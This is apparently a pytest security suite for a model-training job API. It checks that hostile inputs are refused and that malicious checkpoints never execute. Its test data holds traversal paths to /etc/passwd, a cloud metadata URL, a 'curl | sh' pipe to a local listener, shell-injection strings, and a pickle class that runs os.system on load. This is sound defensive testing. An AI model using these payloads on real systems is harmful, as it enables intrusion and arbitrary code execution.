"""Hostile and bad input against the real service: OpenAPI fuzzing, refused locations, malformed data and
checkpoints through real worker jobs, and the auth edges (other keys, expiring links, body and rate limits)."""

from __future__ import annotations

import base64
import builtins
import copy
import hashlib
import io
import json
import os
import pickle
import socket
import tarfile
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient

from api.main import create_app
from core.errors import StorageError
from helip import crud, db
from helip.settings import Settings
from helip.store import open_store
from tests.test_service_e2e import FINISHED, TINY, Service, job_spec

ROOT = Path(__file__).resolve().parent.parent
KEYS = ["key-hostile-a", "key-hostile-b"]
ALLOWED_BUCKET = "helip-allowed"


def auth(key: str = KEYS[0]) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


class Sentinel:
    """A TCP listener that counts connections: the 'host' every refused URL points at, so a test can show
    that nothing was ever contacted."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture(scope="module")
def sentinel() -> Iterator[Sentinel]:
    s = Sentinel()
    yield s
    s.close()


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """allowed/ (what jobs may read) next to outside/ (a 'secret' the attacks aim at), with links out."""
    base = tmp_path_factory.mktemp("hostile")
    allowed, outside = base / "allowed", base / "outside"
    for cls in ("circle", "square"):
        (allowed / "shapes" / cls).mkdir(parents=True)
        (allowed / "shapes" / cls / "0.png").write_bytes(b"png")
        (outside / "shapes" / cls).mkdir(parents=True)
        (outside / "shapes" / cls / "0.png").write_bytes(b"png")
    (allowed / "train.tsv").write_text("filepath\ttitle\nimg0.png\ta red square\n")
    (outside / "secret.tsv").write_text("filepath\ttitle\n/etc/passwd\tsecret\n")
    (outside / "secret.pt").write_bytes(b"secret weights")
    (allowed / "link_out.tsv").symlink_to(outside / "secret.tsv")
    (allowed / "link_out.pt").symlink_to(outside / "secret.pt")
    (allowed / "linkdir").symlink_to(outside, target_is_directory=True)
    return {"base": base, "allowed": allowed, "outside": outside}


@pytest.fixture(scope="module")
def settings(pg_url: str, redis_url: str, tree: dict[str, Path], sentinel: Sentinel,
             tmp_path_factory: pytest.TempPathFactory) -> Settings:
    db.upgrade(pg_url)
    state = tmp_path_factory.mktemp("hostile-state")
    return Settings(
        _env_file=None, data_dir=state, database_url=pg_url, broker_url=redis_url,
        storage_url=(state / "store").as_uri(), api_keys=",".join(KEYS), secret_key="hostile-secret",
        allowed_data=f"{tree['allowed']},s3://{ALLOWED_BUCKET}/data/",
        # The S3 endpoint is the sentinel: a location that got as far as S3 would show up as a connection.
        s3_endpoint_url=f"http://127.0.0.1:{sentinel.port}", s3_access_key="k", s3_secret_key="s",
        queue_name="helip-hostile-" + uuid.uuid4().hex[:8], rate_limit_per_minute=1_000_000,
    )


@pytest.fixture(scope="module")
def client(settings: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(settings)) as c:
        yield c


def base_spec(allowed: Path) -> dict[str, Any]:
    return {"model": {"name": "tiny-hostile", "config": TINY}, "data": {"train": str(allowed / "train.tsv")},
            "train": {"batch_size": 8, "max_steps": 2}}


# -- locations ------------------------------------------------------------------------------------------

# {A} is the allowed dir, {O} the outside dir, {P} the sentinel's port, {M} a marker file a shell would create.
ATTACKS = {
    "file-url-etc-passwd": "file:///etc/passwd",
    "absolute-etc-passwd": "/etc/passwd",
    "file-url-with-host": "file://127.0.0.1/etc/passwd",
    "dotdot-traversal": "{A}/../outside/secret.tsv",
    "relative-traversal": "../../../../../../etc/passwd",
    "encoded-traversal": "file://{A}/%2e%2e/outside/secret.tsv",
    "symlink-file-out": "{A}/link_out.tsv",
    "symlink-dir-out": "{A}/linkdir/secret.tsv",
    "nul-byte": "{A}/train.tsv\x00/../../outside/secret.tsv",
    "pipe-cat": "pipe:cat /etc/passwd",
    "pipe-curl-sh": "pipe:curl -s http://127.0.0.1:{P}/x | sh",
    "pipe-upper": "PIPE:touch {M}",
    "shell-substitution": "{A}/$(touch {M}).tar",
    "shell-semicolon": "{A}/{{00000..00001}}.tar; touch {M}",
    "brace-bomb": "{A}/{{0..99999999}}.tar",
    "http-metadata": "http://169.254.169.254/latest/meta-data/iam/",
    "https-metadata": "https://169.254.169.254/x.tar",
    "http-loopback": "http://127.0.0.1:{P}/train.tsv",
    "https-any-host": "https://example.com/cc3m/{{00000..00010}}.tar",
    "hf-hub": "hf-hub:timm/vit_base_patch32_clip_224.openai",
    "gs-bucket": "gs://bucket/data.tar",
    "ftp": "ftp://127.0.0.1:{P}/data.tar",
    "s3-other-bucket": "s3://other-bucket/data/train.tsv",
    "s3-outside-prefix": "s3://" + ALLOWED_BUCKET + "/private/train.tsv",
    "s3-dotdot-key": "s3://" + ALLOWED_BUCKET + "/data/../private/train.tsv",
    "s3-bad-bucket": "s3://../etc/passwd",
}
FIELDS = ["data.train", "model.pretrained", "eval.zeroshot.0.root", "eval.retrieval.0.data",
          "eval.linear_probe.0.train", "mining.encoder_pretrained"]


def _with_location(spec: dict[str, Any], field: str, location: str, allowed: Path) -> dict[str, Any]:
    if field == "data.train":
        spec["data"]["train"] = location
    elif field == "model.pretrained":
        spec["model"]["pretrained"] = location
    elif field == "mining.encoder_pretrained":
        spec["mining"] = {"encoder": "tiny-hostile", "encoder_pretrained": location}
    elif field == "eval.zeroshot.0.root":
        spec["eval"] = {"zeroshot": [{"name": "z", "root": location}]}
    elif field == "eval.retrieval.0.data":
        spec["eval"] = {"retrieval": [{"name": "r", "data": location}]}
    else:
        spec["eval"] = {"linear_probe": [{"name": "p", "train": location, "test": str(allowed / "shapes")}]}
    return spec


@pytest.fixture()
def opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every path this process opens while the test runs (the in-process API included)."""
    seen: list[str] = []
    real_open, real_io_open, real_os_open = builtins.open, io.open, os.open

    def note(path: Any) -> None:
        if isinstance(path, (str, bytes, os.PathLike)):
            seen.append(os.fsdecode(path))

    def spy_open(file: Any, *a: Any, **k: Any) -> Any:
        note(file)
        return real_open(file, *a, **k)

    def spy_io_open(file: Any, *a: Any, **k: Any) -> Any:
        note(file)
        return real_io_open(file, *a, **k)

    def spy_os_open(path: Any, *a: Any, **k: Any) -> int:
        note(path)
        return real_os_open(path, *a, **k)

    monkeypatch.setattr(builtins, "open", spy_open)
    monkeypatch.setattr(io, "open", spy_io_open)
    monkeypatch.setattr(os, "open", spy_os_open)
    return seen


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("attack", list(ATTACKS), ids=list(ATTACKS))
def test_hostile_locations_are_refused_and_nothing_is_opened(client: TestClient, tree: dict[str, Path],
                                                            sentinel: Sentinel, opened: list[str],
                                                            field: str, attack: str) -> None:
    marker = tree["base"] / f"pwned-{uuid.uuid4().hex[:6]}"
    location = ATTACKS[attack].format(A=tree["allowed"], O=tree["outside"], P=sentinel.port, M=marker)
    spec = _with_location(base_spec(tree["allowed"]), field, location, tree["allowed"])
    before = sentinel.connections
    t0 = time.monotonic()
    r = client.post("/jobs", json=spec, headers=auth())
    assert r.status_code == 422, r.text
    err = r.json()["error"]
    # a NUL character is refused by the spec itself, as in every other string field
    expected = "invalid_spec" if attack == "nul-byte" else "invalid_location"
    if attack == "hf-hub" and field in ("model.pretrained", "mining.encoder_pretrained"):
        expected = "invalid_spec"  # a hub repository, not a location: refused as a pretrained value by name
    if attack == "shell-semicolon" and field in ("data.train", "eval.retrieval.0.data"):
        expected = "data_error"  # a (harmless) path under the allowed folder, of no format the worker reads
    assert err["code"] == expected and err["param"] == field and err["message"], err
    assert time.monotonic() - t0 < 10  # a brace bomb is refused by its size, not expanded
    assert sentinel.connections == before, "a refused location reached the network"
    assert not marker.exists(), "a shell ran"
    outside = str(tree["outside"])
    touched = [p for p in opened if p.startswith(outside) or p == "/etc/passwd" or "secret" in p]
    assert touched == [], f"opened {touched}"


def test_refused_locations_store_and_queue_nothing(client: TestClient, settings: Settings, tree: dict[str, Path],
                                                  redis_url: str) -> None:
    import redis

    before = client.get("/jobs?limit=100", headers=auth()).json()["data"]
    for name in ("file-url-etc-passwd", "pipe-cat", "http-metadata", "s3-other-bucket", "symlink-dir-out"):
        spec = _with_location(base_spec(tree["allowed"]), "data.train", ATTACKS[name].format(A=tree["allowed"]),
                              tree["allowed"])
        assert client.post("/jobs", json=spec, headers=auth()).status_code == 422
    assert client.get("/jobs?limit=100", headers=auth()).json()["data"] == before
    assert redis.Redis.from_url(redis_url).llen(settings.queue_name) == 0
    ok = client.post("/jobs", json=base_spec(tree["allowed"]), headers=auth())  # the control: a good spec passes
    assert ok.status_code == 201, ok.text


# -- fuzzing from the OpenAPI schema ------------------------------------------------------------------------

FUZZ_EXAMPLES = 30  # per operation and generation mode (fewer where fewer distinct cases exist): < 1 min


def _check_error_body(status: int, body: Any, where: str) -> None:
    assert isinstance(body, dict) and isinstance(body.get("error"), dict), where
    err = body["error"]
    assert isinstance(err.get("code"), str) and err["code"], where
    assert isinstance(err.get("message"), str) and err["message"], where
    assert "param" in err, where
    if status == 422:  # a validation error always names the field (or 'body' when the body as a whole is wrong)
        assert isinstance(err["param"], str) and err["param"], where


def test_fuzz_the_api_from_its_openapi_schema(settings: Settings, tree: dict[str, Path],
                                              record_property: Any) -> None:
    import schemathesis
    from hypothesis import HealthCheck, Phase, given
    from hypothesis import settings as hsettings
    from hypothesis.errors import Unsatisfiable
    from schemathesis import GenerationMode

    app = create_app(settings)
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    counts: dict[str, int] = {}
    statuses: dict[int, int] = {}
    empty: list[str] = []
    current: dict[str, str] = {}
    # A real job id of this key, so that the /jobs/{job_id}/... operations also reach their found branch.
    with TestClient(app) as c:
        job_id = c.post("/jobs", json=base_spec(tree["allowed"]), headers=auth()).json()["id"]
    for result in schema.get_all_operations():
        operation = result.ok()
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            label = f"{operation.label} [{mode.value}]"
            current["label"] = label  # what run() below reports (run is called in this iteration only)
            params = {"job_id": job_id} if "{job_id}" in operation.path and mode == GenerationMode.POSITIVE else None
            strategy = operation.as_strategy(generation_mode=mode, headers=auth(), path_parameters=params)

            @hsettings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None, derandomize=True,
                       phases=[Phase.explicit, Phase.generate], suppress_health_check=list(HealthCheck))
            @given(case=strategy)
            def run(case: Any) -> None:
                response = case.call()
                label = current["label"]
                counts[label] = counts.get(label, 0) + 1
                statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
                where = f"{label}: {response.status_code} {response.text[:300]!r} for {case.as_curl_command()}"
                assert response.status_code < 500, where
                if response.status_code >= 400:
                    _check_error_body(response.status_code, response.json(), where)

            try:
                run()
            except Unsatisfiable:  # e.g. no negative case exists for an operation without inputs
                empty.append(label)
    total = sum(counts.values())
    record_property("fuzz_cases", total)
    print(f"\nfuzz: {total} cases over {len(counts)} operation/mode pairs; statuses {dict(sorted(statuses.items()))}; "
          f"nothing to generate for {empty}")
    assert len(counts) >= 12 and total >= 250, counts
    assert 500 not in statuses


HOSTILE_VALUES: list[Any] = [float("nan"), float("inf"), float("-inf"), 10**30, -(10**30), 2**63, "\x00", "a\x00b",
                              "x" * 5000, "", None, True, [], {}, "../../etc/passwd", "{0..99999999}"]
SPEC_PATHS = ["model.name", "model.pretrained", "model.config", "model.config.embed_dim", "model.config.vision_cfg.width",
              "data.train", "data.csv_separator", "data.workers", "data.decode", "data.max_bad_fraction", "mining.top_k",
              "mining.block_size", "mining.shards", "mining.cache", "train.compile", "mining.duplicate_threshold",
              "helip.gamma", "helip.margin", "helip.sample_from",
              "train.lr", "train.epochs", "train.max_steps", "train.batch_size", "train.warmup", "train.seed",
              "train.grad_clip", "eval.batch_size", "eval.zeroshot", "control", "extra_field"]


def _nested(depth: int, leaf: Any) -> Any:
    for i in range(depth):
        leaf = {"k": leaf} if i % 2 else [leaf]
    return leaf


def test_fuzz_job_specs_with_non_finite_numbers_nul_deep_nesting_and_duplicate_headers(
        settings: Settings, tree: dict[str, Path], record_property: Any) -> None:
    """What the schema fuzzer cannot send: NaN and Infinity (not JSON, but Python's parser and many clients
    accept them), NUL characters, values nested far deeper than any schema, and repeated headers. Every answer
    is a 4xx with the error body, and a 422 names the field that was changed (or one that contains it)."""
    from hypothesis import HealthCheck, Phase, given
    from hypothesis import settings as hsettings
    from hypothesis import strategies as st

    statuses: dict[int, int] = {}
    with TestClient(create_app(settings)) as c:

        @hsettings(max_examples=300, deadline=None, database=None, derandomize=True,
                   phases=[Phase.explicit, Phase.generate], suppress_health_check=list(HealthCheck))
        @given(path=st.sampled_from(SPEC_PATHS), value=st.sampled_from(HOSTILE_VALUES),
               depth=st.sampled_from([0, 0, 0, 3, 30, 200]), dup=st.sampled_from([None, "authorization",
                                                                                 "content-type", "idempotency-key"]))
        def run(path: str, value: Any, depth: int, dup: str | None) -> None:
            spec = copy.deepcopy(base_spec(tree["allowed"]))  # the model config is a shared module constant
            node = spec
            parts = path.split(".")
            for part in parts[:-1]:
                node = node.setdefault(part, {}) if isinstance(node.get(part, {}), dict) else node
            node[parts[-1]] = _nested(depth, value)
            headers = [("Authorization", f"Bearer {KEYS[0]}"), ("Content-Type", "application/json")]
            if dup == "authorization":
                headers.append(("Authorization", f"Bearer {KEYS[1]}"))
            elif dup == "content-type":
                headers.append(("Content-Type", "text/plain"))
            elif dup == "idempotency-key":
                headers += [("Idempotency-Key", "a"), ("Idempotency-Key", "b")]
            r = c.post("/jobs", content=json.dumps(spec, allow_nan=True), headers=headers)
            statuses[r.status_code] = statuses.get(r.status_code, 0) + 1
            where = f"{path}={str(value)[:40]!r} depth {depth} dup {dup}: {r.status_code} {r.text[:300]}"
            assert r.status_code < 500, where
            if r.status_code >= 400:
                _check_error_body(r.status_code, r.json(), where)
            if r.status_code == 422 and r.json()["error"]["code"] in ("invalid_spec", "invalid_location"):
                param = r.json()["error"]["param"]
                assert path.startswith(param) or param.startswith(path.rsplit(".", 1)[0]), where

        run()
    total = sum(statuses.values())
    record_property("hostile_spec_cases", total)
    print(f"\nhostile specs: {total} cases; statuses {dict(sorted(statuses.items()))}")
    assert total >= 250 and 500 not in statuses and statuses.get(422, 0) > 150


# -- malformed data and checkpoints through real worker jobs -----------------------------------------------


class Evil:
    """A pickle payload: unpickling it runs a shell command that creates `marker`."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self) -> tuple:
        return (os.system, (f"touch {self.marker}",))


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory):
    from synthworld.world import generate_world

    return generate_world(tmp_path_factory.mktemp("hostile-world") / "world", n_train=200, n_retrieval=40,
                          zeroshot_per_class=1, probe_per_class=(1, 1), shards=2, seed=5)


def _bad_rows_csv(world, dest: Path) -> tuple[Path, int, int]:
    """The world's first 120 pairs plus 20 bad ones (non-images named .jpg, empty and huge captions,
    missing files). Returns (csv, rows, bad)."""
    dest.mkdir(parents=True, exist_ok=True)
    rows = world.train_csv.read_text().splitlines()
    out = ["filepath\ttitle"]
    for line in rows[1:121]:
        path, caption = line.split("\t")
        out.append(f"{world.train_csv.parent / path}\t{caption}")
    good_image = str(world.train_csv.parent / rows[1].split("\t")[0])
    for i in range(10):
        fake = dest / f"fake{i}.jpg"
        fake.write_bytes(b"\x00\x01 definitely not a jpeg " * (i + 1))
        out.append(f"{fake}\ta picture that is not one")
    out += [f"{good_image}\t" for _ in range(5)]  # empty captions
    out += [f"{good_image}\t{'x' * 2_000_000}", f"{good_image}\t{'y' * 50_000}", f"{good_image}\t{'z' * 20_000}"]
    out += [f"{dest}/missing{i}.png\tgone" for i in range(2)]
    csv = dest / "bad.tsv"
    csv.write_text("\n".join(out) + "\n")
    return csv, 140, 20


def _truncated_shards(world, dest: Path) -> str:
    """A copy of the world's two shards with the second cut inside an image."""
    dest.mkdir(parents=True, exist_ok=True)
    shards = sorted(Path(world.train_shards).parent.glob("*.tar"))
    (dest / "00000.tar").write_bytes(shards[0].read_bytes())
    raw = shards[1].read_bytes()
    with tarfile.open(shards[1]) as tf:
        pngs = [m for m in tf.getmembers() if m.name.endswith((".png", ".jpg"))]
    cut = pngs[len(pngs) // 2].offset_data + 10
    (dest / "00001.tar").write_bytes(raw[:cut])
    return str(dest / "{00000..00001}.tar")


@pytest.fixture(scope="module")
def job_service(make_pg_database, redis_url: str, world, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    url = make_pg_database()
    db.upgrade(url)
    logs = tmp_path_factory.mktemp("hostile-logs")
    bad = tmp_path_factory.mktemp("hostile-bad")
    env = {k: v for k, v in os.environ.items() if not k.startswith("HELIP_")}
    env.update(
        PYTHONPATH=str(ROOT), OMP_NUM_THREADS="1", HF_HUB_OFFLINE="1",
        HELIP_ENVIRONMENT="production", HELIP_DATABASE_URL=url, HELIP_BROKER_URL=redis_url,
        HELIP_STORAGE_URL=(logs / "store").as_uri(), HELIP_API_KEYS="key-e2e", HELIP_SECRET_KEY="s",
        HELIP_ALLOWED_DATA=f"{world.root},{bad}", HELIP_DATA_DIR=str(logs / "data"),
        HELIP_QUEUE_NAME="hostile-" + uuid.uuid4().hex[:8], HELIP_HEARTBEAT_SECONDS="1",
    )
    svc = Service(env, logs)
    svc.bad_dir = bad  # type: ignore[attr-defined]
    yield svc
    svc.close()


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_malformed_data_and_checkpoints_fail_clearly_and_the_worker_survives(job_service: Service, world) -> None:
    import torch

    bad_dir: Path = job_service.bad_dir  # type: ignore[attr-defined]
    csv, rows, n_bad = _bad_rows_csv(world, bad_dir / "rows")
    shards = _truncated_shards(world, bad_dir / "shards")
    no_caption = bad_dir / "no_caption.tsv"
    body = "".join(f"{world.train_csv.parent / ln.split(chr(9))[0]}\tx\n"
                   for ln in world.train_csv.read_text().splitlines()[1:5])
    no_caption.write_text("filepath\tdescription\n" + body)
    junk = bad_dir / "junk.pt"
    junk.write_bytes(os.urandom(4096))
    marker = bad_dir / "pwned"
    payload = bad_dir / "payload.pt"
    torch.save({"state_dict": {"w": torch.zeros(1)}, "evil": Evil(marker)}, payload)
    raw_pickle = bad_dir / "raw.pt"
    raw_pickle.write_bytes(pickle.dumps(Evil(marker)))

    def spec(**over: Any) -> dict[str, Any]:
        s = job_spec(world, steps=2, checkpoint_every=1)
        s["eval"] = {}
        s["data"].update(over.pop("data", {}))
        s["model"].update(over.pop("model", {}))
        return s

    cases = {
        "missing column": spec(data={"train": str(no_caption)}),
        "too many bad rows": spec(data={"train": str(csv), "max_bad_fraction": 0.05}),
        "truncated shard": spec(data={"train": shards, "max_bad_fraction": 0.0}),
        "not a checkpoint": spec(model={"pretrained": str(junk)}),
        "pickle payload (torch zip)": spec(model={"pretrained": str(payload)}),
        "pickle payload (raw)": spec(model={"pretrained": str(raw_pickle)}),
        "bad rows under the threshold": spec(data={"train": str(csv), "max_bad_fraction": 0.5}),
    }
    # A CSV without the caption column is refused at submit, naming the field ...
    r = job_service.http.post("/jobs", json=cases["missing column"])
    assert r.status_code == 422 and r.json()["error"]["param"] == "data.csv_caption_key", r.text
    # ... and when its header changes after the submission, the worker fails the job naming the same field.
    no_caption.write_text("filepath\ttitle\n" + body)
    ids = {name: job_service.submit(s) for name, s in cases.items()}  # the API accepts these: they look fine
    no_caption.write_text("filepath\tdescription\n" + body)
    worker = job_service.start_worker("hostile", HELIP_STALE_AFTER_SECONDS="120")
    try:
        jobs = {name: job_service.wait(i, lambda j: j["status"] in FINISHED, timeout=600, workers=[worker])
                for name, i in ids.items()}
        assert worker.poll() is None, "the worker crashed"
    finally:
        job_service.stop(worker)

    def error(name: str) -> dict[str, Any]:
        job = jobs[name]
        assert job["status"] == "failed" and job["attempts"] == 1, json.dumps(job)[:2000]
        assert job["error"]["code"] != "internal_error", job["error"]
        return job["error"]

    assert error("missing column")["param"] == "data.csv_caption_key"
    err = error("too many bad rows")
    assert err["code"] == "data_error" and err["param"] == "data.max_bad_fraction", err
    assert f"{n_bad} of {rows}" in err["message"]
    warnings = [e for e in job_service.events(ids["too many bad rows"]) if e["level"] == "warning"]
    report = warnings[0]["data"]
    assert report["bad"] == n_bad and report["rows"] == rows
    assert report["not an image"] == 10 and report["empty caption"] == 5
    assert report["caption too long"] == 3 and report["missing image"] == 2
    err = error("truncated shard")
    assert err["code"] == "data_error" and err["param"] == "data.max_bad_fraction", err
    indexed = next(e for e in job_service.events(ids["truncated shard"]) if e["message"].startswith("indexed"))
    assert indexed["data"]["shards_with_errors"] == 1
    for name in ("not a checkpoint", "pickle payload (torch zip)", "pickle payload (raw)"):
        err = error(name)
        assert err["code"] == "model_error" and err["param"] == "model.pretrained", (name, err)
    assert not marker.exists(), "a pickle payload was executed"
    ok = jobs["bad rows under the threshold"]
    assert ok["status"] == "succeeded", json.dumps(ok)[:2000]
    warned = [e for e in job_service.events(ids["bad rows under the threshold"]) if e["level"] == "warning"]
    assert warned and warned[0]["data"]["bad"] == n_bad


def test_unsafe_checkpoints_are_refused_in_process(tmp_path: Path) -> None:
    """core.models never unpickles code: weights_only loading refuses globals, whatever the file is called."""
    import torch

    from core.errors import ModelError
    from core.models import load_model, load_state

    marker = tmp_path / "pwned"
    files = {"junk.pt": os.urandom(1000), "text.pt": b"just some text\n", "raw.pt": pickle.dumps(Evil(marker))}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    torch.save({"state_dict": {}, "x": Evil(marker)}, tmp_path / "zip.pt")
    for name in [*files, "zip.pt"]:
        with pytest.raises(ModelError):
            load_state(tmp_path / name)
        with pytest.raises(ModelError) as exc:
            load_model("tiny-hostile-inproc", config=TINY, pretrained=str(tmp_path / name))
        assert exc.value.param == "model.pretrained"
    assert not marker.exists()


# -- auth: other keys, expiring links, body and rate limits ---------------------------------------------------


def test_another_keys_job_is_404_everywhere_and_links_do_not_transfer(client: TestClient, settings: Settings,
                                                                     tree: dict[str, Path], tmp_path: Path) -> None:
    from helip.links import sign_key
    from helip.store import FileStore

    job_id = client.post("/jobs", json=base_spec(tree["allowed"]), headers=auth(KEYS[0])).json()["id"]
    store = FileStore(Path(settings.storage_url.removeprefix("file://")))
    (tmp_path / "ck.pt").write_bytes(b"weights")
    key = f"jobs/{job_id}/checkpoints/helip_step1.pt"
    sha, size = store.put_file(key, tmp_path / "ck.pt")
    with db.session_scope(settings) as s:
        crud.record_checkpoint(s, job_id=job_id, run="helip", step=1, key=key, sha256=sha, size=size, final=True)
        crud.record_artifact(s, job_id=job_id, name="hard_pairs", key=key, sha256=sha, size=size)
    paths = ["", "/cancel", "/metrics", "/events", "/checkpoints", "/hard-pairs"]
    for path in paths:
        method = "POST" if path == "/cancel" else "GET"
        r = client.request(method, f"/jobs/{job_id}{path}", headers=auth(KEYS[1]))
        assert r.status_code == 404 and r.json()["error"]["code"] == "not_found", (path, r.text)
        for bad in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer wrong"},
                    {"Authorization": f"Basic {KEYS[0]}"}, {"Authorization": f"Bearer {KEYS[0]}x"}):
            r = client.request(method, f"/jobs/{job_id}{path}", headers=bad)
            assert r.status_code == 401 and r.json()["error"]["code"] == "unauthorized", (path, bad)
    url = client.get(f"/jobs/{job_id}/checkpoints", headers=auth(KEYS[0])).json()["data"][0]["url"]
    assert client.get(url).content == b"weights"  # the owner's link works without a key
    # A link names its object only inside its encryption: the job id cannot be read from it, and a link
    # re-pointed at another object (a readable payload with this link's tail) is refused.
    token = url.rsplit("/", 1)[1]
    assert job_id not in token and job_id.encode() not in base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))
    forged = json.dumps({"k": f"jobs/{job_id}/hard_pairs.parquet", "e": int(time.time()) + 60}).encode()
    forged64 = base64.urlsafe_b64encode(forged).rstrip(b"=").decode()
    assert client.get(f"/files/{forged64}.{token[-43:]}").status_code == 403
    assert client.get(f"/files/{forged64[:20]}{token[20:]}").status_code == 403
    other_secret = sign_key(b"not-the-server-secret", key, 60)
    assert client.get(f"/files/{other_secret}").status_code == 403
    with pytest.raises(StorageError):  # not even the server signs a key that escapes the store
        sign_key(b"hostile-secret", "../../etc/passwd", 60)


def test_presigned_s3_links_from_the_api_expire(settings: Settings, s3, tree: dict[str, Path], tmp_path: Path) -> None:
    bucket = s3.make_bucket("helip-hostile")
    s3_settings = settings.model_copy(update={
        "storage_url": f"s3://{bucket}/run-{uuid.uuid4().hex[:6]}", "s3_endpoint_url": s3.endpoint_url,
        "s3_access_key": s3.access_key, "s3_secret_key": s3.secret_key, "s3_region": "us-east-1",
        "presign_seconds": 2, "allowed_data": str(tree["allowed"]),
    })
    with TestClient(create_app(s3_settings)) as c:
        job_id = c.post("/jobs", json=base_spec(tree["allowed"]), headers=auth()).json()["id"]
        store = open_store(s3_settings.storage_url, s3_endpoint=s3.endpoint, s3_access_key=s3.access_key,
                           s3_secret_key=s3.secret_key, s3_region="us-east-1")
        (tmp_path / "ck.pt").write_bytes(b"s3 weights")
        key = f"jobs/{job_id}/checkpoints/helip_step1.pt"
        sha, size = store.put_file(key, tmp_path / "ck.pt")
        with db.session_scope(s3_settings) as s:
            crud.record_checkpoint(s, job_id=job_id, run="helip", step=1, key=key, sha256=sha, size=size, final=True)
        ck = c.get(f"/jobs/{job_id}/checkpoints", headers=auth()).json()["data"][0]
        assert c.get(f"/jobs/{job_id}/checkpoints", headers=auth(KEYS[1])).status_code == 404
    fresh = httpx.get(ck["url"], timeout=10)
    assert fresh.status_code == 200 and hashlib.sha256(fresh.content).hexdigest() == ck["sha256"]
    time.sleep(3.5)
    expired = httpx.get(ck["url"], timeout=10)
    assert expired.status_code == 403 and b"expired" in expired.content.lower(), expired.text[:300]


def test_chunked_oversized_body_and_rate_limit_recovery(settings: Settings, tree: dict[str, Path]) -> None:
    small = settings.model_copy(update={"max_body_bytes": 4096, "rate_limit_per_minute": 60})
    with TestClient(create_app(small)) as c:
        def chunks() -> Iterator[bytes]:  # no Content-Length: the limit is enforced while reading
            for _ in range(64):
                yield b" " * 1024

        r = c.post("/jobs", content=chunks(), headers={**auth(), "Content-Type": "application/json"})
        assert r.status_code == 413 and r.json()["error"]["code"] == "request_too_large"
        codes = [c.get("/jobs?limit=1", headers=auth(KEYS[1])).status_code for _ in range(70)]
        assert codes.count(200) >= 58 and codes[-1] == 429  # a burst of about one minute's worth, then 429
        limited = c.get("/jobs?limit=1", headers=auth(KEYS[1]))
        wait = int(limited.headers["retry-after"])
        assert limited.status_code == 429 and 1 <= wait <= 2 and limited.json()["error"]["code"] == "rate_limited"
        assert c.get("/jobs?limit=1", headers=auth(KEYS[0])).status_code == 200  # other keys are not affected
        time.sleep(wait + 0.2)
        assert c.get("/jobs?limit=1", headers=auth(KEYS[1])).status_code == 200  # the bucket refills
